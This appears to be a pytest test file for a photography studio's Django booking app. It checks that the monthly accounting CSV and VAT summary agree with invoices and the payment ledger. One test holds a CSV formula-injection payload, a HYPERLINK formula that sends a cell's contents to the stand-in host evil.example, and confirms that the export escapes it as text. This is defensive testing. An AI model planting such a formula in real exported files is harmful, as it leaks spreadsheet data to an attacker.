"""A month's books: the CSV an accountant imports and the tax summary, agreeing with the
invoices and the ledger, months on the studio's clock."""

import csv
import io
from datetime import UTC, date, datetime
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.urls import reverse

from sessions.models import (
    Booking,
    GiftVoucher,
    Invoice,
    Payment,
    Refund,
    VoucherPayment,
    VoucherRefund,
)
from sessions.payments.exports import month_csv, month_tax_summary
from sessions.payments.invoices import booking_invoice_issue, refund_credit_note_issue
from sessions.payments.ledger import money_ledger
from tests.factories import BookingFactory, ClientFactory, SessionTypeFactory

LONDON = ZoneInfo("Europe/London")
JUNE = date(2026, 6, 1)


@pytest.fixture
def vat(studio):
    studio.tax_name, studio.tax_rate, studio.prices_include_tax = "VAT", 2000, True
    studio.save()
    return studio


def received(booking, amount, at, **fields) -> Payment:
    return Payment.objects.create(
        booking=booking,
        kind=fields.pop("kind", Payment.Kind.DEPOSIT),
        amount=amount,
        currency="GBP",
        status=Payment.Status.PAID,
        amount_received=amount,
        currency_received="GBP",
        paid_at=at,
        **fields,
    )


@pytest.fixture
def june(vat):
    """Rosa's £590 session invoiced in June, her £100 deposit by card on 3 June, a £490
    bank transfer at 23:30 on 30 June London time (still June there), and £50 of the
    deposit refunded on the 20th, after which she cancelled: billed what she kept."""
    rosa = ClientFactory(name="Rosa Diaz")
    booking = BookingFactory(
        client=rosa, session_type=SessionTypeFactory(name="Family", price=59000), price=59000
    )
    with time_machine.travel(datetime(2026, 6, 2, 9, tzinfo=UTC), tick=False):
        invoice = booking_invoice_issue(booking_id=booking.pk)
    deposit = received(
        booking, 10000, datetime(2026, 6, 3, 10, tzinfo=UTC), stripe_payment_intent_id="pi_june"
    )
    received(
        booking,
        49000,
        datetime(2026, 6, 30, 22, 30, tzinfo=UTC),
        kind=Payment.Kind.BALANCE,
        method=Payment.Method.BANK_TRANSFER,
        reference="ROSA DIAZ FAMILY",
    )
    with time_machine.travel(datetime(2026, 6, 20, 9, tzinfo=UTC), tick=False):
        refund = Refund.objects.create(
            payment=deposit,
            amount=5000,
            currency="GBP",
            reason=Refund.Reason.STUDIO,
            status=Refund.Status.SUCCEEDED,
            stripe_refund_id="re_june",
        )
        Payment.objects.filter(pk=deposit.pk).update(
            amount_refunded=5000, status=Payment.Status.PARTIALLY_REFUNDED
        )
        assert refund_credit_note_issue(refund_id=refund.pk) is None  # still going ahead
    with time_machine.travel(datetime(2026, 6, 25, 9, tzinfo=UTC), tick=False):
        Booking.objects.filter(pk=booking.pk).update(status=Booking.Status.CANCELLED)
        kept = booking_invoice_issue(booking_id=booking.pk)
    return {"booking": booking, "invoice": invoice, "kept": kept}


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_month_exports_every_document_and_movement_of_money(june):
    rows = rows_of(month_csv(JUNE, LONDON))
    deposit, balance = (
        f"R-{june['booking'].reference}-{p.pk}" for p in Payment.objects.order_by("pk")
    )
    assert [(r["Type"], r["Number"], r["Gross"], r["Method"]) for r in rows] == [
        ("Invoice", "INV-0001", "590.00", ""),
        ("Credit note", "CN-0001", "-590.00", ""),  # cancels INV-0001
        ("Invoice", "INV-0002", "590.00", ""),  # what was paid
        ("Credit note", "CN-0002", "-50.00", ""),  # the refund of it, once the booking ended
        ("Payment", deposit, "100.00", "Card (online)"),
        ("Payment", balance, "490.00", "Bank transfer"),
        ("Refund", deposit, "-50.00", "Card (online)"),
    ]
    invoice = rows[0]
    assert (invoice["Date"], invoice["Client"], invoice["Net"], invoice["Tax"]) == (
        "2026-06-02",
        "Rosa Diaz",
        "491.67",
        "98.33",
    )
    assert invoice["Tax rate"] == "20%"
    assert rows[5]["Date"] == "2026-06-30"  # 23:30 in London: still June
    assert rows[5]["Reference"] == "ROSA DIAZ FAMILY"
    assert rows[6]["Reference"] == "re_june"
    assert rows_of(month_csv(date(2026, 7, 1), LONDON)) == []


def test_the_figures_agree_with_the_ledger_and_the_invoices(june):
    rows = rows_of(month_csv(JUNE, LONDON))

    def total(kinds):
        cents = sum(round(float(r["Gross"]) * 100) for r in rows if r["Type"] in kinds)
        return cents

    [ledger] = money_ledger(
        since=datetime(2026, 6, 1, tzinfo=LONDON),
        until=datetime(2026, 7, 1, tzinfo=LONDON),
        zone=LONDON,
    )
    assert total({"Payment"}) == ledger.received == 59000
    assert -total({"Refund"}) == ledger.refunded == 5000
    billed = sum(Invoice.objects.values_list("gross", flat=True))
    assert total({"Invoice", "Credit note"}) == billed == 54000  # 590 paid, 50 back
    # What was billed, less what was kept: nothing is owed.
    assert billed - ledger.net == 0


def test_the_tax_summary_adds_up_each_documents_printed_figures(june):
    [vat20] = month_tax_summary(JUNE, LONDON)
    documents = Invoice.objects.all()
    assert (vat20.rate_label, vat20.currency) == ("20%", "GBP")
    assert (vat20.net, vat20.tax, vat20.gross) == (
        sum(d.net for d in documents),
        sum(d.tax for d in documents),
        sum(d.gross for d in documents),
    )
    assert (vat20.net, vat20.tax, vat20.gross) == (45000, 9000, 54000)


def test_the_studio_downloads_the_month_and_a_looker_may_too(client, june, django_user_model):
    from django.contrib.auth.models import Permission

    looker = django_user_model.objects.create_user("looker", is_staff=True)
    looker.user_permissions.add(Permission.objects.get(codename="view_payment"))
    client.force_login(looker)
    page = client.get(reverse("admin:shoots_payment_books", args=["2026", "06"]))
    html = page.content.decode()
    assert "Books for June 2026" in html
    assert "£450.00" in html
    assert "£90.00" in html
    assert "£540.00" in html
    response = client.get(reverse("admin:shoots_payment_books_csv", args=["2026", "06"]))
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="books-2026-06.csv"' in response["Content-Disposition"]
    assert len(rows_of(response.content.decode())) == 7
    # No 13th month: the admin's own "no such payment" answers, not a 500.
    wrong = client.get("/admin/shoots/payment/books/2026-13/", follow=True)
    assert wrong.status_code == 200
    assert "Books for" not in wrong.content.decode()


def test_staff_who_may_not_see_payments_get_no_books(client, june, django_user_model):
    nobody = django_user_model.objects.create_user("nobody", is_staff=True)
    client.force_login(nobody)
    url = reverse("admin:shoots_payment_books_csv", args=["2026", "06"])
    assert client.get(url).status_code == 403
    assert Booking.objects.count() == 1


def test_a_name_typed_as_a_formula_stays_text_in_the_csv(vat):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    booking = BookingFactory(booked_as=formula)
    with time_machine.travel(datetime(2026, 6, 2, 9, tzinfo=UTC), tick=False):
        booking_invoice_issue(booking_id=booking.pk)
    received(booking, 5000, datetime(2026, 6, 3, 10, tzinfo=UTC))
    rows = rows_of(month_csv(JUNE, LONDON))
    assert [row["Client"] for row in rows] == [f"'{formula}"] * 2
    assert rows[1]["Gross"] == "50.00"


def test_money_paid_twice_comes_in_and_goes_back_in_the_csv_as_in_the_ledger(vat):
    booking = BookingFactory()
    deposit = received(
        booking, 5000, datetime(2026, 6, 3, 10, tzinfo=UTC), stripe_payment_intent_id="pi_1"
    )
    with time_machine.travel(datetime(2026, 6, 4, 9, tzinfo=UTC), tick=False):
        Refund.objects.create(
            payment=deposit,
            amount=5000,
            currency="GBP",
            reason=Refund.Reason.DUPLICATE,
            status=Refund.Status.SUCCEEDED,
            stripe_payment_intent_id="pi_2",
        )
    rows = rows_of(month_csv(JUNE, LONDON))
    assert [(r["Type"], r["Gross"], r["Reference"]) for r in rows] == [
        ("Payment", "50.00", "pi_1"),
        ("Payment (paid twice)", "50.00", "pi_2"),
        ("Refund", "-50.00", ""),
    ]
    [ledger] = money_ledger(
        since=datetime(2026, 6, 1, tzinfo=LONDON),
        until=datetime(2026, 7, 1, tzinfo=LONDON),
        zone=LONDON,
    )
    money = sum(round(float(r["Gross"]) * 100) for r in rows)
    assert money == ledger.net == 5000


def test_a_gift_voucher_refund_goes_out_in_the_month_it_was_made_as_in_the_ledger(vat):
    """A £200 voucher sold on 3 June; £50 of it refunded in Stripe's dashboard on 30 June at
    23:30 London time (still June there), and £30 on 2 July; a refund the bank failed counts
    nowhere."""
    voucher = GiftVoucher.objects.create(
        code="GIFT-ACDE-FGHJ",
        value=20000,
        currency="GBP",
        buyer_name="Rosa Diaz",
        recipient_name="Amy Santiago",
        status=GiftVoucher.Status.PAID,
        paid_at=datetime(2026, 6, 3, 10, tzinfo=UTC),
        expires_on=date(2028, 6, 3),
    )
    sale = VoucherPayment.objects.create(
        voucher=voucher,
        amount=20000,
        currency="GBP",
        status=VoucherPayment.Status.PAID,
        amount_received=20000,
        currency_received="GBP",
        paid_at=voucher.paid_at,
        stripe_payment_intent_id="pi_gift",
        amount_refunded=8000,
    )
    for moment, amount, status, ref in (
        (datetime(2026, 6, 30, 22, 30, tzinfo=UTC), 5000, "succeeded", "re_june"),
        (datetime(2026, 6, 30, 22, 40, tzinfo=UTC), 1000, "failed", "re_failed"),
        (datetime(2026, 7, 2, 9, tzinfo=UTC), 3000, "pending", "re_july"),
    ):
        with time_machine.travel(moment, tick=False):
            VoucherRefund.objects.create(
                voucher_payment=sale,
                amount=amount,
                currency="GBP",
                status=status,
                reason=VoucherRefund.Reason.STRIPE,
                stripe_refund_id=ref,
            )
    rows = rows_of(month_csv(JUNE, LONDON))
    assert [
        (r["Date"], r["Type"], r["Number"], r["Gross"], r["Tax"], r["Reference"]) for r in rows
    ] == [
        ("2026-06-03", "Gift voucher sale", "GIFT-ACDE-FGHJ", "200.00", "", "pi_gift"),
        ("2026-06-30", "Gift voucher refund", "GIFT-ACDE-FGHJ", "-50.00", "", "re_june"),
    ]
    assert rows[1]["Description"] == "Made in the Stripe dashboard"
    july = rows_of(month_csv(date(2026, 7, 1), LONDON))
    assert [(r["Type"], r["Gross"], r["Reference"]) for r in july] == [
        ("Gift voucher refund", "-30.00", "re_july")
    ]
    months = money_ledger(
        since=datetime(2026, 6, 1, tzinfo=LONDON),
        until=datetime(2026, 8, 1, tzinfo=LONDON),
        zone=LONDON,
    )
    assert [(m.month, m.received, m.refunded, m.count) for m in months] == [
        (date(2026, 7, 1), 0, 3000, 0),
        (JUNE, 20000, 5000, 1),
    ]
    for month, ledger in ((JUNE, months[1]), (date(2026, 7, 1), months[0])):
        money = sum(round(float(r["Gross"]) * 100) for r in rows_of(month_csv(month, LONDON)))
        assert money == ledger.net
